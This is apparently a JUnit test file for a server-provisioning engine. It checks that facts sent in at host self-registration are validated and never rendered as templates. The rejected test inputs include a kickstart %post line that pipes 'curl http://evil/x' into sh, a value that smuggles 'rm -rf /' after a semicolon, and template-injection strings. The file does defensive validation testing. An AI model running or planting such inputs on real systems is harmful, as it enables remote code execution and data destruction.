package io.bergenholm.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.bergenholm.api.AlreadyExistsException;
import io.bergenholm.api.BadInputException;
import io.bergenholm.api.Params;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Registered facts are data: checked on the way in, never rendered on the way out. */
class RegisteredFactsTest {
  private static final String UUID = "0e5d9d1c-1111-2222-3333-444455556666";
  private Bergenholm engine;

  @BeforeEach
  void seed() {
    // These tests are about what facts may hold, not about time: the render deadline and queue
    // wait are lifted far above what a loaded machine might take for one resolution
    // (RenderIsolationTest covers the deadlines).
    engine =
        Bergenholm.builder()
            .config(
                Map.of(
                    "store",
                    "memory:",
                    Bergenholm.RENDER_DEADLINE_MS,
                    "120000",
                    Bergenholm.RENDER_QUEUE_WAIT_MS,
                    "120000"))
            .build();
    engine.createGroup(
        "default",
        Params.of(
            Map.of(
                "root_password",
                "hunter2hunter2",
                "ipxe_script",
                "ks",
                "ks_network",
                "network --hostname={{ hostname }}")));
    engine.createTemplate(
        "ks", "{{ ks_network }}\nrootpw {{ root_password }}\n# {{ manufacturer }} {{ serial }}\n");
  }

  @AfterEach
  void close() {
    engine.close();
  }

  @Test
  void markupControlCharactersAndOverlongFactsAreRefusedNamingTheFact() {
    assertRefused("hostname", "{{ root_password }}", "not allowed");
    assertRefused("serial", "{% include 'x' %}", "'{'");
    assertRefused("asset", "a{#b", "'{'");
    assertRefused("hostname", "x\n%post\ncurl http://evil/x|sh\n%end", "control character");
    assertRefused("product", "a\u0000b", "control character");
    assertRefused("manufacturer", "Acme\uFFFD", "not valid UTF-8");
    assertRefused("product", "x".repeat(Facts.MAX_CHARS + 1), "longer than");
    assertRefused("hostname", "a b", "hostname");
    assertRefused("serial", "a;rm -rf /", "';'");
    assertThat(engine.listHosts(Map.of())).isEmpty();
  }

  @Test
  void plainFactsAreStoredWithTheirProvenanceAndTheIdLowercased() {
    engine.register(
        UUID.toUpperCase(),
        Map.of(
            "manufacturer",
            "Dell Inc.",
            "product",
            "PowerEdge R640 (Gen 14)",
            "serial",
            "SN-0042/A",
            "asset",
            "Tag #7",
            "hostname",
            "node-7.lab.example"));
    Params stored = engine.host(UUID).orElseThrow().value();
    assertThat(stored.get("product")).contains("PowerEdge R640 (Gen 14)");
    assertThat(stored.get(Facts.REGISTERED_BY)).contains(Facts.SELF_REGISTRATION);
    assertThat(engine.renderTemplate("ks", UUID))
        .isEqualTo(
            "network --hostname=node-7.lab.example\nrootpw hunter2hunter2\n# Dell Inc. SN-0042/A");
    assertThatThrownBy(() -> engine.register(UUID, Map.of()))
        .isInstanceOf(AlreadyExistsException.class);
  }

  @Test
  void registrationTakesUuidsOnly() {
    for (String id :
        List.of(
            "\uFFFD\uFFFD", "register", "default", "samplehost", UUID + "0", "../" + UUID, "")) {
      assertThatThrownBy(() -> engine.register(id, Map.of("serial", "1")))
          .isInstanceOf(BadInputException.class)
          .hasMessageContaining("is not a UUID");
    }
    assertThat(engine.listHosts(Map.of())).isEmpty();
  }

  @Test
  void aHostileFactAlreadyInTheStoreIsNeverRendered() {
    // As the old server stored it, before facts were checked.
    engine.createHost(
        UUID, Params.of(Map.of("groups", List.of("default"), "hostname", "{{ root_password }}")));
    assertThatThrownBy(() -> engine.renderTemplate("ks", UUID))
        .isInstanceOf(BadInputException.class)
        .hasMessageContaining("host '" + UUID + "'")
        .hasMessageContaining("'hostname'")
        .hasMessageContaining("machine fact")
        .hasMessageNotContaining("hunter2");
    engine.replaceHost(
        UUID,
        Params.of(Map.of("groups", List.of("default"), "serial", "x\n%post\n")),
        java.util.Optional.empty());
    assertThatThrownBy(() -> engine.ipxeScript(UUID))
        .hasMessageContaining("'serial'")
        .hasMessageContaining("control character");
  }

  @Test
  void aFactOnAGroupIsStillATemplateForOperators() {
    engine.replaceGroup(
        "default",
        Params.of(
            Map.of(
                "root_password",
                "pw",
                "ipxe_script",
                "ks",
                "ks_network",
                "network --hostname={{ hostname }}",
                "hostname",
                "node-{{ uuid[:8] }}")),
        java.util.Optional.empty());
    engine.createHost(UUID, Params.of(Map.of("groups", List.of("default"))));
    assertThat(engine.renderTemplate("ks", UUID)).startsWith("network --hostname=node-0e5d9d1c\n");
  }

  @Test
  void theCompatibilitySettingRendersHostFactsAgain() {
    try (Bergenholm old =
        Bergenholm.builder()
            .config(Map.of("store", "memory:", Bergenholm.FACTS_ARE_DATA, "false"))
            .build()) {
      old.createTemplate("t", "{{ hostname }}");
      old.createHost(UUID, Params.of(Map.of("n", "7", "hostname", "node-{{ n }}")));
      assertThat(old.renderTemplate("t", UUID)).isEqualTo("node-7");
    }
  }

  /**
   * 10^5 seeded random registrations: each one is created or refused as bad input or as already
   * known, nothing else; every stored fact is plain data; rendering any created host never shows
   * the secret it could otherwise reach.
   */
  @Test
  void fuzzRegistrationQueries() {
    long seed = Long.getLong("fuzz.seed", 20261128L);
    Random random = new Random(seed);
    int created = 0;
    int refused = 0;
    int known = 0;
    int threadsBefore = Thread.activeCount();
    for (int i = 0; i < 100_000; i++) {
      String id = RegisterInputs.id(random);
      Map<String, String> facts = new LinkedHashMap<>();
      for (String name : Facts.NAMES) {
        if (random.nextInt(3) > 0) {
          facts.put(name, RegisterInputs.value(random));
        }
      }
      try {
        engine.register(id, facts);
        created++;
        String stored = HostIds.canonicalUuid(id).orElseThrow();
        Params p = engine.host(stored).orElseThrow().value();
        for (String name : Facts.NAMES) {
          p.string(name)
              .ifPresent(
                  v -> assertThat(Facts.literalProblem(v)).as("seed %d, %s", seed, name).isNull());
        }
        if (created % 200 == 0) {
          assertThat(engine.renderTemplate("ks", stored))
              .as("seed %d", seed)
              .contains("rootpw hunter2hunter2");
        }
      } catch (AlreadyExistsException e) {
        known++;
      } catch (BadInputException e) {
        assertThat(e.getMessage())
            .as("seed %d", seed)
            .containsAnyOf("registration fact '", "is not a UUID");
        refused++;
      }
    }
    assertThat(created + refused + known).isEqualTo(100_000);
    assertThat(created)
        .as("seed %d: the generator must also produce valid input", seed)
        .isGreaterThan(1000);
    assertThat(refused).isGreaterThan(1000);
    assertThat(known).isGreaterThan(0);
    assertThat(Thread.activeCount()).as("threads").isLessThanOrEqualTo(threadsBefore + 12);
  }

  private void assertRefused(String fact, String value, String reason) {
    assertThatThrownBy(() -> engine.register(UUID, Map.of(fact, value)))
        .isInstanceOf(BadInputException.class)
        .hasMessageContaining("registration fact '" + fact + "'")
        .hasMessageContaining(reason);
  }
}
